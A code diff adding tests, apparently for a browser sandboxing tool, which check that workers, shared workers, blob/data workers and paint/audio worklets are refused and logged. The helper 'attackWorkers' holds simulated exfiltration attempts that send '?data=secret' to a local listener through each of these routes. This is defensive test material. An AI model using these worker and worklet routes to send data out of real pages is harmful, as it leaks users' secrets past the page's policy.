@@ -1196,6 +1196,85 @@ describe('external scripts whose integrity names a hash the policy allows', () =
   });
 });
 
+/** Every way to start a worker or a worklet module, each pointed at `sink` (blob: and data: carry it inside). */
+async function attackWorkers(sink: string): Promise<Record<string, string>> {
+  const out: Record<string, string> = {};
+  const attempt = async (name: string, run: () => unknown): Promise<void> => {
+    try {
+      await run();
+      out[name] = 'ok';
+    } catch (e) {
+      out[name] = `threw ${(e as Error).name}`;
+    }
+  };
+  const fetchIn = (v: string): string => `fetch(${JSON.stringify(`${sink}/${v}?data=secret`)})`;
+  await attempt('Worker', () => new Worker(`${sink}/worker?data=secret`));
+  await attempt('module Worker', () => new Worker(`${sink}/module-worker?data=secret`, { type: 'module' }));
+  await attempt('SharedWorker', () => new SharedWorker(`${sink}/shared-worker?data=secret`));
+  await attempt('blob Worker', () => new Worker(URL.createObjectURL(new Blob([fetchIn('blob-worker')]))));
+  await attempt('data Worker', () => new Worker(`data:text/javascript,${fetchIn('data-worker')}`));
+  await attempt('paint worklet', () =>
+    (CSS as unknown as { paintWorklet: Worklet }).paintWorklet.addModule(`${sink}/paint-worklet?data=secret`),
+  );
+  await attempt('audio worklet', () => new AudioContext().audioWorklet.addModule(`${sink}/audio-worklet?data=secret`));
+  return out;
+}
+
+describe('workers and worklets', () => {
+  let listener: Server;
+  const requests: string[] = [];
+  let results: Record<string, string>;
+  let entries: string[];
+  let sink: string;
+
+  beforeAll(async () => {
+    listener = createServer((req, res) => {
+      requests.push(req.url ?? '');
+      res.end();
+    });
+    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
+    sink = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+    const p = await browser.newPage({ viewport: { width: 1280, height: 800 } });
+    await p.goto(dev.url);
+    results = await (await probeFrame(p)).evaluate(attackWorkers, sink);
+    await p.click('[data-tab="network"]');
+    await p.locator('li[data-blocked$="audio-worklet?data=secret"]').first().waitFor({ timeout: 8000 });
+    await new Promise((r) => setTimeout(r, 1000)); // time for a request to reach the listener, and a report the log
+    entries = await p
+      .locator('[data-panel="network"] li[data-blocked]')
+      .evaluateAll((lis) =>
+        lis.map((li) => `${li.querySelector('code')?.textContent} ${li.getAttribute('data-blocked')}`),
+      );
+    await p.close();
+  });
+
+  afterAll(() => listener?.close());
+
+  it('are refused before the browser sees them, and nothing reaches a listener', () => {
+    expect(results).toEqual({
+      Worker: 'threw NotAllowedError',
+      'module Worker': 'threw NotAllowedError',
+      SharedWorker: 'threw NotAllowedError',
+      'blob Worker': 'threw NotAllowedError',
+      'data Worker': 'threw NotAllowedError',
+      'paint worklet': 'threw NotAllowedError',
+      'audio worklet': 'threw NotAllowedError',
+    });
+    expect(requests).toEqual([]);
+  });
+
+  it('are each in the network log once, with what they named', () => {
+    // Chromium refused these in the frame's console only: a worker from a URL before any request, a worklet without a report.
+    for (const path of ['worker', 'module-worker', 'shared-worker'])
+      expect(entries).toContain(`worker ${sink}/${path}?data=secret`);
+    for (const path of ['paint-worklet', 'audio-worklet'])
+      expect(entries).toContain(`worklet ${sink}/${path}?data=secret`);
+    expect(entries.filter((e) => e.startsWith('worker blob:'))).toHaveLength(1);
+    expect(entries.filter((e) => e.startsWith('worker data:'))).toHaveLength(1);
+    expect(entries.filter((e) => e.startsWith('worker-src'))).toEqual([]);
+  });
+});
+
 describe('the network log, from another local origin', () => {
   let other: Server;
   beforeAll(async () => {
